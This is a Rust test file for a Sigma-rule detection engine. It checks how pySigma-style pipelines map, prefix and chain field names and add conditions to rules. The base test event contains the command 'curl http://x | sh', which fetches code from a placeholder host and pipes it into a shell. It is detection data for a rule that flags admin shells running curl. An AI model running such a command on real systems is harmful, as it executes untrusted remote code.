//! pySigma processing pipelines as data (issue 18, item 9): each behaviour as pySigma 1.x applies
//! it (`sigma/processing/transformations/*.py`, `ProcessingPipeline.from_dict`,
//! `ProcessingPipelineResolver`), checked by evaluating the compiled rule on events.

use serde_json::json;
use unithunt_engine::{is_true, EvalCtx};
use unithunt_sigma::{compile, load_documents, Pipeline, SigmaDoc};

fn rule(text: &str) -> unithunt_sigma::load::SigmaRule {
    match load_documents(text, "rule.yml").unwrap().remove(0) {
        SigmaDoc::Rule(r) => r,
        _ => panic!("a rule"),
    }
}

fn hits(p: &Pipeline, r: &str, event: serde_json::Value) -> bool {
    let e = compile(&rule(r), p).unwrap_or_else(|e| panic!("{e}"));
    is_true(&e, &mut EvalCtx::new(&event))
}

const PIPELINE: &str = r#"
name: site fields
priority: 20
vars:
  admins: [root, toor]
transformations:
  - id: proc_fields
    type: field_name_mapping
    mapping:
      Image: [proc.exe, proc.image]
      User: acct.name
    rule_conditions:
      - type: logsource
        product: linux
        category: process_creation
  - type: field_name_prefix
    prefix: "extra."
    field_name_cond_not: true
    field_name_conditions:
      - type: processing_item_applied
        processing_item_id: proc_fields
  - type: add_condition
    conditions:
      extra.kind: process
    rule_conditions:
      - type: logsource
        category: process_creation
  - type: value_placeholders
postprocessing:
  - type: template
    template: "{query}"
"#;

const RULE: &str = r#"
title: Shell as an admin
id: 0b1c2d3e-0000-4000-8000-000000000001
logsource: {product: linux, category: process_creation}
detection:
  selection:
    Image|endswith: /bash
    User|expand: '%admins%'
    CommandLine|contains: curl
  condition: selection
"#;

/// `field_name_mapping` to a list is an OR over the fields (FieldMappingTransformation); a
/// prefix with `processing_item_applied` negated reaches only the names the mapping left alone;
/// `add_condition` is `added and (rule)`; `value_placeholders` fills `|expand` from `vars`.
#[test]
fn a_pysigma_pipeline_maps_prefixes_adds_conditions_and_expands() {
    let p = Pipeline::parse(PIPELINE).unwrap();
    assert_eq!(p.priority, 20);
    assert_eq!(p.notes.len(), 1, "postprocessing is said: {:?}", p.notes);
    let base = json!({
        "proc": {"image": "/usr/bin/bash"},
        "acct": {"name": "toor"},
        "extra": {"CommandLine": "curl http://x | sh", "kind": "process"}
    });
    assert!(hits(&p, RULE, base.clone()));
    // The other field of the list.
    let mut e = base.clone();
    e["proc"] = json!({"exe": "/bin/bash"});
    assert!(hits(&p, RULE, e));
    // The added condition is required.
    let mut e = base.clone();
    e["extra"]["kind"] = json!("file");
    assert!(!hits(&p, RULE, e));
    // A user outside the placeholder's values.
    let mut e = base.clone();
    e["acct"]["name"] = json!("alice");
    assert!(!hits(&p, RULE, e));
    // The unprefixed name is not read.
    let mut e = base.clone();
    e["CommandLine"] = e["extra"]["CommandLine"].take();
    assert!(!hits(&p, RULE, e));
    // A rule of another log source: no mapping, but the prefix applies (no rule condition).
    let other = r#"
title: Other
logsource: {product: linux, category: file_event}
detection:
  selection: {TargetFilename|endswith: .service}
  condition: selection
"#;
    assert!(hits(
        &p,
        other,
        json!({"extra": {"TargetFilename": "/etc/x.service"}})
    ));
    assert!(!hits(
        &p,
        other,
        json!({"TargetFilename": "/etc/x.service"})
    ));
}

/// Pipelines chain by `priority` (ProcessingPipelineResolver: lowest first), and mappings chain
/// across items: A→B then B→C gives C.
#[test]
fn pipelines_chain_by_priority_and_mappings_chain_in_order() {
    let late = Pipeline::parse(
        "priority: 50\ntransformations:\n  - type: field_name_mapping\n    mapping: {b: c}\n",
    )
    .unwrap();
    let early = Pipeline::parse(
        "priority: 10\ntransformations:\n  - type: field_name_mapping\n    mapping: {a: b}\n",
    )
    .unwrap();
    let p = Pipeline::chain(vec![late, early]);
    let r = "title: t\nlogsource: {product: linux}\ndetection:\n  s: {a: x}\n  condition: s\n";
    assert!(hits(&p, r, json!({"c": "x"})));
    assert!(!hits(&p, r, json!({"b": "x"})));
    // On top of the built-in ECS pipeline (which runs first at priority 0).
    let mine = Pipeline::parse(
        "priority: 100\ntransformations:\n  - type: field_name_mapping\n    mapping: {process.executable: my.exe}\n",
    )
    .unwrap();
    let p = Pipeline::chain(vec![Pipeline::ecs_linux(), mine]);
    let r = "title: t\nlogsource: {product: linux, category: process_creation}\ndetection:\n  s: {Image: /bin/sh}\n  condition: s\n";
    let ev = json!({"event": {"category": "process", "type": "start"}, "my": {"exe": "/bin/sh"}});
    assert!(hits(&p, r, ev));
}

/// `wildcard_placeholders` stands for `*`; `rule_failure` refuses the rule with its message;
/// `add_condition` with `template` and `negated`.
#[test]
fn wildcards_failures_and_templated_negated_conditions() {
    let p = Pipeline::parse(
        r#"
transformations:
  - type: wildcard_placeholders
  - type: add_condition
    template: true
    negated: true
    conditions: {index: "noisy-$product"}
  - type: rule_failure
    message: no Windows here
    rule_conditions: [{type: logsource, product: windows}]
"#,
    )
    .unwrap();
    let r = "title: t\nlogsource: {product: linux}\ndetection:\n  s: {u|expand: '%any%'}\n  condition: s\n";
    assert!(hits(&p, r, json!({"u": "whoever", "index": "quiet"})));
    assert!(!hits(
        &p,
        r,
        json!({"u": "whoever", "index": "noisy-linux"})
    ));
    let w = "title: t\nlogsource: {product: windows}\ndetection:\n  s: {u: x}\n  condition: s\n";
    let e = compile(&rule(w), &p).unwrap_err();
    assert!(e.to_string().contains("no Windows here"), "{e}");
}

/// What pySigma refuses is refused, and what unithunt does not run is refused with the reason,
/// never skipped.
#[test]
fn unknown_or_unsupported_pipeline_parts_are_errors() {
    for (text, want) in [
        ("transformations:\n  - mapping: {a: b}\n", "missing transformation type"),
        ("transformations:\n  - type: nope\n", "the transformation `nope` is not supported"),
        ("transformations:\n  - type: field_name_mapping\n    mapping: {a: b}\n    bogus: 1\n", "unexpected key `bogus`"),
        ("transformations: []\nfoo: 1\n", "unknown key `foo`"),
        ("transformations:\n  - type: field_name_mapping\n    mapping: {a: b}\n    rule_cond_op: any\n    rule_conditions: [{type: logsource, product: linux}]\n", "`rule_cond_op: any`"),
        ("transformations:\n  - type: field_name_mapping\n    mapping: {a: b}\n    rule_conditions: [{type: tag, tag: attack.t1}]\n", "the rule condition `tag` is not supported"),
        ("transformations:\n  - type: replace_string\n    regex: x\n    replacement: y\n", "`replace_string` is not supported"),
    ] {
        let e = Pipeline::parse(text).unwrap_err();
        assert!(e.contains(want), "{text:?}: {e}");
    }
}

/// pySigma 1.x: a null key in `field_name_mapping` (`~: message`) names the field keywords are
/// searched in; without one (and without unithunt's `keyword_fields`) keywords are an error.
#[test]
fn a_null_key_names_the_keyword_field() {
    let r = "title: t\nlogsource: {product: linux}\ndetection:\n  k: [evil]\n  condition: k\n";
    let p = Pipeline::parse(
        "transformations:\n  - type: field_name_mapping\n    mapping:\n      ~: msg\n",
    )
    .unwrap();
    assert!(hits(&p, r, json!({"msg": "an EVIL thing"})));
    assert!(!hits(&p, r, json!({"other": "evil"})));
    let bare = Pipeline::parse("transformations: []\n").unwrap();
    assert!(compile(&rule(r), &bare).is_err());
}
